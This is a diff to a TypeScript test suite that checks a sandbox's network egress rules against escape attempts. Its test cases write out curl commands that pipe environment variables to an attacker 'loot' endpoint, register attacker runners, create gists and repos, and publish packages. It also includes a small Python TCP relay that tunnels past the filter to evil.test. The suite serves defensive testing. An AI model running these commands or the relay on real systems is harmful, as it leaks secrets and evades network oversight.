@@ -1,4 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
+import { ORIGINS } from '../_internet/addresses.ts'
 import type { Arrival } from '../_internet/internet.ts'
 import { bypass } from './_bypass.ts'
 
@@ -14,6 +15,28 @@ bypass({
   rules: READ_ACME,
   script: `env | ${CURL} --data-binary @- https://web.test/repos/attacker/loot/issues`,
   through: atAttackers,
+  refusal: 'method',
+})
+for (const [attempt, request] of [
+  ['registers a runner of the attacker’s', '-X POST https://web.test/repos/attacker/loot/actions/runners/registration-token'],
+  ['makes a repository', `-d '{"name":"loot"}' https://web.test/user/repos`],
+  ['writes a gist', `-d '{"files":{}}' https://web.test/gists`],
+] as const) {
+  bypass({
+    never: `a step ${attempt} by the interface of an allowed host`,
+    rows: [3, 8, 9, 10, 18, 33],
+    rules: '  - { host: web.test, methods: [GET, POST], path: /repos/acme/** }',
+    script: `${CURL} ${request}`,
+    through: (arrival) => /attacker|[/]user[/]repos|[/]gists/.test(String(arrival['uri'])),
+    refusal: 'path',
+  })
+}
+bypass({
+  never: 'a package is published to a registry that may be read',
+  rows: [4, 7, 33],
+  rules: '  - { host: web.test, methods: [GET, HEAD], path: /** }',
+  script: `${CURL} -X PUT -d '{}' https://web.test/small-sum`,
+  through: ({ method }: Arrival): boolean => method === 'PUT',
   refusal: 'method',
 })
 bypass({
@@ -82,6 +105,44 @@ bypass({
   script: `${CURL} -x http://web.test:7777 https://evil.test/`,
   through: (arrival) => String(arrival['text']).startsWith('CONNECT'),
   refusal: 'method',
+})
+bypass({
+  never: 'a request names its destination in full, and means another host than its connection',
+  rows: [31, 32],
+  rules: '  - { host: web.test, port: 7777, protocol: http }',
+  script: `${CURL} -x http://web.test:7777 http://evil.test/`,
+  through: (arrival) => String(arrival['text']).startsWith('GET http://evil.test'),
+  refusal: 'host-header',
+})
+bypass({
+  never: 'a relay inside the sandbox reaches what its clients may not',
+  rows: [32],
+  files: {
+    'relay.py': `import socket, threading
+server = socket.create_server(('127.0.0.1', 3128))
+def pump(a, b):
+    try:
+        while data := a.recv(65536): b.sendall(data)
+    except OSError: pass
+    b.close()
+def serve(client):
+    try:
+        host, port = client.recv(4096).split()[1].decode().split(':')
+        target = socket.create_connection((host, int(port)), 3)
+    except OSError:
+        return client.close()
+    client.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')
+    threading.Thread(target=pump, args=(client, target), daemon=True).start()
+    pump(target, client)
+open('listening', 'w').close()
+while True:
+    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
+`,
+  },
+  script: `python3 relay.py & until [ -e listening ]; do sleep 0.02; done
+${CURL} -x http://127.0.0.1:3128 https://evil.test/title?by-name; ${CURL} -x http://127.0.0.1:3128 https://${ORIGINS.evil}/title?by-number; rm listening; kill $!`,
+  through: (arrival) => arrival['server'] === ORIGINS.evil,
+  refusal: 'no-rule',
 })
 bypass({
   never: 'a connection becomes a websocket that no rule means',
